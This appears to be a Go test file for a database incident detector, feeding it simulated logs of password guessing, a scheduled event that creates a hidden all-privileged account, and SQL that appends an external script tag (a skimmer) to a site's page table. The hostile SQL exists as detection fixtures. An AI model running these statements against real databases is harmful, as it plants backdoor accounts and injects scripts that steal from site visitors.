package incident_test

import (
	"fmt"
	"testing"
	"time"
)

// What the server's scheduler sends of an event is the doing of who made it, also where the
// server hides a password; of an event that nobody speaks against it is nobody's.
func TestEvents(t *testing.T) {
	runs := func(s *script, statements ...string) {
		s.id++
		for _, text := range statements {
			s.entry("Query", text)
		}
	}
	s := ordinary()
	s.at(24*time.Hour+noon).login("anna@10.0.0.20", "shop", "CREATE EVENT tidy ON SCHEDULE EVERY 1 DAY DO DROP TABLE IF EXISTS old_customers")
	s.at(24*time.Hour + noon + time.Minute)
	runs(s, "DROP TABLE IF EXISTS  old_customers")
	s.at(48*time.Hour + noon)
	guesses(s, "192.0.2.7", 12, "root")
	s.login("root@192.0.2.7", "shop", "CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO BEGIN CREATE USER 'x'@'%' IDENTIFIED BY 'y'; GRANT ALL ON *.* TO 'x'@'%' WITH GRANT OPTION; END")
	s.at(49*time.Hour + noon)
	runs(s, "CREATE USER 'x'@'%' IDENTIFIED BY PASSWORD <secret>", "GRANT ALL ON *.* TO 'x'@'%' WITH GRANT OPTION")
	snap, list := withText(t, s.String())
	const want = "critical host root@192.0.2.7: 14 connections; make event e; change accounts: x@%; guessing 12, access 2, persistence 2\n"
	if got := describe(snap, list); got != want {
		t.Errorf("incidents:\n%swant\n%s", got, want)
	}
}

// Who put a script into pages through the shop's own account, and does so again by another
// night, is at it still; of a page that was written as a whole nothing is said.
func TestLeftBehindAgain(t *testing.T) {
	s := &script{}
	for n := range 4 * 48 {
		s.at(time.Duration(n)*30*time.Minute).login("web@10.0.0.5", "shop", fmt.Sprintf("SELECT title FROM news WHERE id = '%d'", n))
	}
	const skimmer = "UPDATE blocks SET content = CONCAT(content, '<script src=//cdn.example/a.js></script>') WHERE id = 3"
	const day = 24 * time.Hour
	s.at(day+2*time.Hour).login("web@10.0.0.5", "shop", skimmer) // alone, and before
	s.at(2*day+2*time.Hour).login("web@10.0.0.5", "shop", "SHOW TABLES", "SELECT * FROM customers", skimmer)
	s.at(3*day+2*time.Hour).login("web@10.0.0.5", "shop", skimmer)
	s.at(3*day+noon).login("web@10.0.0.5", "shop", "UPDATE blocks SET content = '<p>new</p><script src=//stats.example/a.js></script>' WHERE id = 3")
	expect(t, s, "critical account web@10.0.0.5: 2 connections; put a script into table blocks; read table customers; enumeration 1, collection 1, persistence 2\n")
}
